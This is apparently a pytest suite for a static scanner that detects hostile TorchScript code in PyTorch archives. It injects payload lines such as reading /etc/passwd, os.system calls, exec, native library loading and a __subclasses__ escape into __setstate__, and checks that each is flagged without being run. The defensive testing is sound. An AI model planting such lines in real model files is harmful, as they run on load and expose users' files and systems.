"""TorchScript code: ``torch.jit.load`` compiles the archive's ``code/`` and runs a scripted ``__setstate__`` at once
(the rest when the model is called). A module saved by torch itself can write or read any file that way (the
canary below: ``torch.save`` in ``__setstate__`` creates a file the moment ``torch.jit.load`` returns).

Scan reads that source statically (``torchweights.tools.scan.tscode``: parsed, never compiled or run) and flags, with
the member
and the line, every operation that reaches outside the module's tensors; plain layer code (what ``torch.jit.script``
and ``torch.jit.trace`` write for real architectures) draws no finding. ``tw.open``/``tw.load`` read the weights of
every archive here and never run any of it.

Hostile archives are a benign ``torch.jit.save`` archive whose ``code/__torch__.py`` is rewritten (the zip rebuilt
with ``zipfile``, so it stays valid), and the same for torch.package archives that embed a scripted module
(``.data/ts_code/code/``).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import torch
from torch import nn

import torchweights.api as tw
from torchweights.limits import Limits
from torchweights.tools.scan.report import Finding, ScanReport
from torchweights.tools.scan.scanner import scan
from torchweights.tools.scan.tscode import analyse, is_code_member

from ._helpers import assert_no_markers, cli_scan, read_members, wait_for, write_zip

# --------------------------------------------------------------------------------------------------- modules


class ConvNet(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3, padding=1)
        self.bn = nn.BatchNorm2d(8)
        self.pool = nn.AdaptiveAvgPool2d(1)
        self.fc = nn.Linear(8, 4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = torch.relu(self.bn(self.conv(x)))
        x = nn.functional.interpolate(x, scale_factor=2.0, mode="nearest")
        return self.fc(torch.flatten(self.pool(x), 1))


class Recurrent(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.embed = nn.Embedding(20, 6)
        self.lstm = nn.LSTM(6, 5, num_layers=2, batch_first=True)
        self.gru = nn.GRU(5, 5)
        self.head = nn.Linear(5, 3)

    def forward(self, tokens: torch.Tensor) -> torch.Tensor:
        out, _ = self.lstm(self.embed(tokens))
        out, _ = self.gru(out)
        return torch.log_softmax(self.head(out), dim=-1)


class TensorState(nn.Module):
    """A scripted ``__getstate__``/``__setstate__`` that only touches tensors (what torch.jit.load runs at once)."""

    def __init__(self) -> None:
        super().__init__()
        self.w = nn.Parameter(torch.randn(4, 3))
        self.register_buffer("scale", torch.full((3,), 0.5))

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, torch.Tensor, bool]:
        return (self.w, self.scale, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, torch.Tensor, bool]) -> None:
        self.w = state[0]
        self.scale = state[1] * 1.0
        self.training = state[2]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x @ self.w * self.scale


class WritesAFile(nn.Module):
    """Saved by torch itself: its scripted ``__setstate__`` writes a file when ``torch.jit.load`` runs it."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.w = nn.Parameter(torch.randn(3))
        self.target = target

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
        return (self.w, self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
        self.w = state[0]
        self.target = state[1]
        self.training = state[2]
        torch.save(state[0], state[1])

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.w


def _quantized() -> nn.Module:
    model = nn.Sequential(nn.Linear(6, 6), nn.ReLU(), nn.Linear(6, 2))
    return torch.ao.quantization.quantize_dynamic(model, {nn.Linear}, dtype=torch.qint8)


def _quantized_lstm() -> nn.Module:
    return torch.ao.quantization.quantize_dynamic(nn.LSTM(4, 4), {nn.LSTM}, dtype=torch.qint8)


BENIGN = {
    "conv-bn-relu-scripted": lambda: torch.jit.script(ConvNet().eval()),
    "conv-bn-relu-traced": lambda: torch.jit.trace(ConvNet().eval(), torch.randn(1, 3, 8, 8)),
    "lstm-gru-scripted": lambda: torch.jit.script(Recurrent()),
    "lstm-traced": lambda: torch.jit.trace(nn.LSTM(4, 4), torch.randn(2, 1, 4)),
    "transformer-encoder-scripted": lambda: torch.jit.script(
        nn.TransformerEncoder(nn.TransformerEncoderLayer(16, 4, 32, batch_first=True), 2, enable_nested_tensor=False)
    ),
    "transformer-traced": lambda: torch.jit.trace(
        nn.TransformerEncoderLayer(16, 4, 32, batch_first=True).eval(), torch.randn(2, 5, 16), check_trace=False
    ),
    "tensor-setstate-scripted": lambda: torch.jit.script(TensorState()),
    "dynamic-quantized-linear": lambda: torch.jit.script(_quantized()),
    "dynamic-quantized-lstm": lambda: torch.jit.script(_quantized_lstm()),
}


def _code_findings(report: ScanReport) -> list[Finding]:
    return [f for f in report.findings if f.code.startswith("ts-")]


def _describe(report: ScanReport) -> str:
    return "\n".join(f"{f.severity} {f.code} {f.member}:{f.line} {f.name}" for f in report.findings)


# ------------------------------------------------------------------------------------------------ plain code


@pytest.fixture(scope="module")
def benign_archives(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("benign-ts")
    torch.manual_seed(0)
    paths = {}
    for name, make in BENIGN.items():
        paths[name] = folder / f"{name}.pt"
        torch.jit.save(make(), str(paths[name]))
    return paths


@pytest.mark.parametrize("name", list(BENIGN))
def test_plain_layer_code_is_clean(benign_archives: dict[str, Path], name: str) -> None:
    path = benign_archives[name]
    with zipfile.ZipFile(path) as zf:
        sources = {n: zf.read(n) for n in zf.namelist() if is_code_member(n)}
    assert sources, "the archive carries TorchScript source"
    for member, source in sources.items():
        assert analyse(source) == [], member
    report = scan(path)
    assert not _code_findings(report), _describe(report)
    assert not [f for f in report.findings if f.member in sources], _describe(report)
    assert report.load_error is None  # (the verdict also depends on how scan judges tensor bytes: test_scan.py)
    reference = torch.jit.load(str(path)).state_dict()
    tensors = tw.load(path)
    for key, value in reference.items():
        if key in tensors:
            assert torch.equal(tensors[key], value), key


def _package_with_script(path: Path) -> None:
    """A torch.package archive that embeds a scripted module (``.data/ts_code/``)."""
    from torch.package import PackageExporter, package_exporter

    gate = package_exporter._gate_torchscript_serialization
    package_exporter._gate_torchscript_serialization = False
    try:
        with PackageExporter(str(path)) as exporter:
            exporter.save_pickle("model", "model.pkl", torch.jit.script(TensorState()))
    finally:
        package_exporter._gate_torchscript_serialization = gate


def test_package_embedded_script_code_is_analysed(tmp_path: Path) -> None:
    path = tmp_path / "package.pt"
    _package_with_script(path)
    members = read_members(path)
    code = [n for n, _ in members if is_code_member(n)]
    assert code and all("/.data/ts_code/code/" in n for n in code), code
    assert not _code_findings(scan(path))

    target = code[0]
    source = dict(members)[target].decode()
    payload = '_0 = torch.from_file("/etc/passwd", True, 4096)'
    lines = source.splitlines()
    at = next(i for i, line in enumerate(lines) if line.strip().startswith("def __setstate__"))
    at += next(j for j, line in enumerate(lines[at:]) if line.rstrip().endswith(":"))  # end of the signature
    lines.insert(at + 1, "    " + payload)
    hostile = write_zip(
        tmp_path / "hostile-package.pt", [(n, "\n".join(lines).encode() if n == target else c) for n, c in members]
    )
    report = scan(hostile)
    (finding,) = [f for f in _code_findings(report) if f.code == "ts-file-access"]
    assert finding.member == target and finding.line == at + 2 and finding.name == "torch.from_file"
    assert report.verdict == "dangerous"


# ------------------------------------------------------------------------------------------------ the canary


def test_canary_torch_itself_writes_code_that_touches_files(tmp_path: Path) -> None:
    """A module scripted and saved by torch, no surgery: ``torch.jit.load`` writes a file; tw does not, and scan
    points at the line."""
    canary = tmp_path / "CANARY-ts"
    path = tmp_path / "writes.pt"
    module = WritesAFile(str(canary))
    torch.jit.script(module).save(str(path))
    canary.unlink(missing_ok=True)

    tensors = tw.load(path)
    assert torch.equal(tensors["state.0"], module.w.detach())
    report = scan(path)
    assert not canary.exists(), "tw.load or scan ran the archive's code"

    target, source = _setstate_source(read_members(path))
    line = 1 + next(i for i, text in enumerate(source.splitlines()) if "torch.save(" in text)
    (finding,) = [f for f in _code_findings(report) if f.name == "torch.save"]
    assert (finding.severity, finding.code, finding.member, finding.line) == (
        "dangerous",
        "ts-file-access",
        target,
        line,
    )
    assert report.verdict == "dangerous"

    code = f"import torch; torch.jit.load({str(path)!r})"
    subprocess.run([sys.executable, "-c", code], check=True, timeout=120, env={**os.environ})
    assert wait_for([canary]), "torch.jit.load did not run the scripted __setstate__"


# ------------------------------------------------------------------------------------------------ hostile code

#: (lines inserted at the top of ``__setstate__``, index of the flagged line, finding code, severity, name)
PAYLOADS = [
    (['_0 = torch.load("weights.pt")'], 0, "ts-file-access", "dangerous", "torch.load"),
    (['_0 = torch.from_file("/etc/passwd", True, 4096)'], 0, "ts-file-access", "dangerous", "torch.from_file"),
    (['torch.save(state[0], "/tmp/out.pt")'], 0, "ts-file-access", "dangerous", "torch.save"),
    (['_0 = ops.aten.from_file("/etc/passwd", False, 8)'], 0, "ts-file-access", "dangerous", "ops.aten.from_file"),
    (['_0 = ops.debugprims.load_tensor("t", [2], [1], dtype=6, device="cpu")'], 0, "ts-file-access", "dangerous",
     "ops.debugprims.load_tensor"),
    (['_0 = ops.load_library("/tmp/libevil.so")'], 0, "ts-native-library", "dangerous", "ops.load_library"),
    (['_0 = torch.ops.load_library("/tmp/libevil.so")'], 0, "ts-native-library", "dangerous",
     "torch.ops.load_library"),
    (['_0 = (torch).classes.load_library("/tmp/libevil.so")'], 0, "ts-native-library", "dangerous",
     "torch.classes.load_library"),
    (["_0 = ops.evil.run(state[0])"], 0, "ts-custom-op", "warning", "ops.evil.run"),
    (["_0 = torch.ops.evil.run(state[0])"], 0, "ts-custom-op", "warning", "torch.ops.evil.run"),
    (["_0 = torch.classes.evil.Runner()"], 0, "ts-custom-class", "warning", "torch.classes.evil.Runner"),
    (["_0 = annotate(__torch__.torch.classes.evil.Runner, None)"], 0, "ts-custom-class", "warning",
     "__torch__.torch.classes.evil.Runner"),
    (["_0 = torch.sparse_coo_tensor(state[0], state[1], [3])"], 0, "ts-memory", "dangerous",
     "torch.sparse_coo_tensor"),
    (["_0 = ops.aten._sparse_coo_tensor_unsafe(state[0], state[1], [3])"], 0, "ts-memory", "dangerous",
     "ops.aten._sparse_coo_tensor_unsafe"),
    (["_0 = ops.c10d.allreduce_([state[0]])"], 0, "ts-network", "dangerous", "ops.c10d.allreduce_"),
    (['_0 = ops.prim.rpc_async("worker", state[0], ())'], 0, "ts-network", "dangerous", "ops.prim.rpc_async"),
    (["t = torch", '_0 = t.from_file("/etc/passwd", False, 8)'], 1, "ts-file-access", "dangerous",
     "torch.from_file"),
    (['f = getattr(torch, "save")', 'f(state[0], "/tmp/out.pt")'], 0, "ts-file-access", "dangerous", "torch.save"),
    (['_0 = getattr(getattr(torch, "ops"), "evil").run(state[0])'], 0, "ts-custom-op", "warning",
     "torch.ops.evil.run"),
    (['_0 = getattr(torch, "from" + "_file")'], 0, "ts-dynamic-attribute", "dangerous",
     "getattr(torch, <computed>)"),
    (['_0 = __import__("os").system("id")'], 0, "ts-python-escape", "dangerous", "__import__"),
    (["import subprocess"], 0, "ts-python-escape", "dangerous", "import subprocess"),
    (['_0 = os.system("id")'], 0, "ts-python-escape", "dangerous", "os.system"),
    (['_0 = open("/etc/passwd").read()'], 0, "ts-python-escape", "dangerous", "open"),
    (['exec("import os")'], 0, "ts-python-escape", "dangerous", "exec"),
    (["_0 = state.__class__.__base__.__subclasses__()"], 0, "ts-python-escape", "dangerous", "__subclasses__"),
    (['_0 = torch.hub.load("evil/repo", "model")'], 0, "ts-python-escape", "dangerous", "torch.hub.load"),
    (['_0 = torch.jit.load("other.pt")'], 0, "ts-python-escape", "dangerous", "torch.jit.load"),
]  # fmt: skip


@pytest.fixture(scope="module")
def stateful(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[tuple[str, bytes]], TensorState]:
    torch.manual_seed(1)
    module = TensorState()
    path = tmp_path_factory.mktemp("ts-state") / "state.pt"
    torch.jit.script(module).save(str(path))
    return read_members(path), module


def _setstate_source(members: list[tuple[str, bytes]]) -> tuple[str, str]:
    """The code member that defines ``__setstate__`` (``<root>/code/__torch__/<test module path>.py``), and its text."""
    return next((n, c.decode()) for n, c in members if is_code_member(n) and b"def __setstate__" in c)


def _inject(source: str, payload: list[str]) -> tuple[str, int]:
    """``source`` with ``payload`` at the top of ``__setstate__``; the 1-based line of the payload's first line."""
    lines = source.splitlines()
    start = next(i for i, line in enumerate(lines) if line.strip().startswith("def __setstate__"))
    body = start + next(j for j, line in enumerate(lines[start:]) if line.rstrip().endswith(":")) + 1
    indent = lines[body][: len(lines[body]) - len(lines[body].lstrip())]
    lines[body:body] = [indent + text for text in payload]
    return "\n".join(lines) + "\n", body + 1


@pytest.mark.parametrize(
    ("payload", "index", "code", "severity", "name"), PAYLOADS, ids=[p[4] + f"-{i}" for i, p in enumerate(PAYLOADS)]
)
def test_hostile_code_is_flagged_at_its_line(
    tmp_path: Path,
    stateful: tuple[list[tuple[str, bytes]], TensorState],
    payload: list[str],
    index: int,
    code: str,
    severity: str,
    name: str,
) -> None:
    members, module = stateful
    target, original = _setstate_source(members)
    source, first = _inject(original, payload)
    path = write_zip(tmp_path / "hostile.pt", [(n, source.encode() if n == target else c) for n, c in members])

    report = scan(path)
    found = [f for f in _code_findings(report) if f.code == code and f.name == name]
    assert found, _describe(report)
    finding = found[0]
    assert (finding.severity, finding.member, finding.line, finding.file) == (
        severity,
        target,
        first + index,
        str(path),
    )
    assert f"line {first + index}" in finding.message
    assert report.verdict == ("dangerous" if severity == "dangerous" else "clean"), _describe(report)

    # the weights are read and nothing from the archive runs
    ckpt = tw.open(path)
    tensors = tw.load(ckpt)
    assert torch.equal(tensors["state.0"], module.w.detach())
    assert torch.equal(tensors["state.1"], module.scale)
    assert_no_markers(tmp_path)


def test_cli_reports_the_line(
    tmp_path: Path, stateful: tuple[list[tuple[str, bytes]], TensorState], capsys: pytest.CaptureFixture[str]
) -> None:
    members, _ = stateful
    target, original = _setstate_source(members)
    source, first = _inject(original, ['_0 = torch.from_file("/etc/passwd", True, 64)'])
    path = write_zip(tmp_path / "hostile.pt", [(n, source.encode() if n == target else c) for n, c in members])
    exit_code, out = cli_scan(capsys, path, json_output=True)
    assert exit_code == 1
    (report,) = json.loads(out)["reports"]
    (finding,) = [f for f in report["findings"] if f["code"] == "ts-file-access"]
    assert (finding["member"], finding["line"], finding["name"]) == (target, first, "torch.from_file")
    exit_code, out = cli_scan(capsys, path)
    assert exit_code == 1 and f"{target[-30:]}:{first}" in out


def test_every_occurrence_is_reported(tmp_path: Path, stateful: tuple[list[tuple[str, bytes]], TensorState]) -> None:
    members, _ = stateful
    target, original = _setstate_source(members)
    payload = ['_0 = torch.load("a.pt")', "_1 = torch.relu(state[0])", '_2 = torch.load("b.pt")']
    source, first = _inject(original, payload)
    path = write_zip(tmp_path / "hostile.pt", [(n, source.encode() if n == target else c) for n, c in members])
    lines = sorted(f.line for f in _code_findings(scan(path)) if f.name == "torch.load")
    assert lines == [first, first + 2]


def test_source_python_cannot_parse_is_still_read(
    tmp_path: Path, stateful: tuple[list[tuple[str, bytes]], TensorState]
) -> None:
    """Source Python's parser rejects (torch never writes it) is read token by token: flagged all the same."""
    members, module = stateful
    target, original = _setstate_source(members)
    source, first = _inject(original, ['_0 = torch.load("x.pt")', "_1 = ) broken (", ""])
    path = write_zip(tmp_path / "hostile.pt", [(n, source.encode() if n == target else c) for n, c in members])
    report = scan(path)
    codes = {(f.code, f.line) for f in _code_findings(report)}
    assert ("ts-file-access", first) in codes, _describe(report)
    assert any(code == "ts-unparsed" for code, _ in codes)
    assert report.verdict == "dangerous"
    assert torch.equal(tw.load(path)["state.0"], module.w.detach())


@pytest.mark.parametrize(
    "source",
    [
        "_0 = " + "(" * 5000 + "1" + ")" * 5000 + "\n",  # deeper than Python's parser goes
        "_0 = " + "-" * 200_000 + "1\n",  # deeper than Python's stack once parsed
        "_0 = x" + ".y" * 100_000 + "\n",
        "\n".join(f'_{i} = torch.load("{i}")' for i in range(5000)),
        "\x00\xff garbage \x1b[2J" * 100,
    ],
    ids=["nested-parens", "deep-unary", "long-chain", "many-calls", "binary"],
)
def test_hostile_source_shapes_end_with_a_report(
    tmp_path: Path, stateful: tuple[list[tuple[str, bytes]], TensorState], source: str
) -> None:
    members, _ = stateful
    target, _ = _setstate_source(members)
    path = write_zip(tmp_path / "hostile.pt", [(n, source.encode() if n == target else c) for n, c in members])
    report = scan(path)
    assert report.complete
    assert len(_code_findings(report)) <= 200
    if "torch.load" in source:
        assert report.verdict == "dangerous"


def test_source_past_the_budget_is_not_analysed_and_says_so(
    tmp_path: Path, stateful: tuple[list[tuple[str, bytes]], TensorState]
) -> None:
    """40 source files of 64 kB (deflated to almost nothing): past ``Limits.max_source_bytes``, scan stops
    analysing, says so once, and calls the file unreadable rather than spend minutes, or clean."""
    members, _ = stateful
    target, original = _setstate_source(members)
    filler = "# " + "x" * 78 + "\n"
    extra = [(f"state/code/__torch__/filler{i}.py", filler.encode() * 800) for i in range(40)]
    path = write_zip(tmp_path / "big.pt", [*members, *extra], compression=zipfile.ZIP_DEFLATED)
    assert path.stat().st_size < 2 << 20
    report = scan(path, limits=Limits(max_source_bytes=1 << 20))
    (error,) = [f for f in report.findings if f.code == "limit-source-size"]
    assert error.severity == "error" and error.member is not None and "filler" in error.member
    assert not report.complete and report.verdict != "clean"
    assert not [f for f in report.findings if f.code == "limit-source-size" and f.member == target]
    assert [f for f in scan(path).findings if f.code == "limit-source-size"] == []


def test_closing_line_names_the_loader_that_runs_the_code(
    tmp_path: Path, stateful: tuple[list[tuple[str, bytes]], TensorState], capsys: pytest.CaptureFixture[str]
) -> None:
    """torch.jit.load compiles and runs ``code/``; the closing line says so, not torch.load/pickle."""
    from torchweights.tools.scan.text import closing_line

    members, _ = stateful
    target, original = _setstate_source(members)
    source, _ = _inject(original, ['_0 = torch.from_file("/etc/passwd", True, 64)'])
    path = write_zip(tmp_path / "hostile.pt", [(n, source.encode() if n == target else c) for n, c in members])
    report = scan(path)
    line = closing_line(report)
    assert line.startswith("Do not load it with torch.jit.load: it would run the code flagged above."), line
    assert "pickle" not in line and "weights_only" not in line
    exit_code, out = cli_scan(capsys, path)
    assert exit_code == 1 and "Do not load it with torch.jit.load" in out


def test_torchscript_types_are_known(benign_archives: dict[str, Path]) -> None:
    """``__torch__.*`` names are the archive's compiled types: no Python package is imported for them, so no
    "unknown class, trust the package" warning; custom C++ classes and dunder attributes keep their handling."""
    from torchweights.unpickle.policy import classify_global

    for path in benign_archives.values():
        report = scan(path)
        names = [n for n in report.globals if n.startswith("__torch__.") and ".torch.classes." not in n]
        assert all(report.globals[n] == "known" for n in names), report.globals
        assert not [f for f in report.findings if (f.name or "") in names], _describe(report)
    assert any(n.startswith("__torch__.") for p in benign_archives.values() for n in scan(p).globals)
    assert classify_global("__torch__.torch.nn.modules.linear.Linear") == "known"
    assert classify_global("__torch__.torch.classes.evil.Runner") == "unknown"
    assert classify_global("__torch__.M.__reduce_ex__") == "dangerous"
    assert classify_global("__torch__.os.system") == "dangerous"
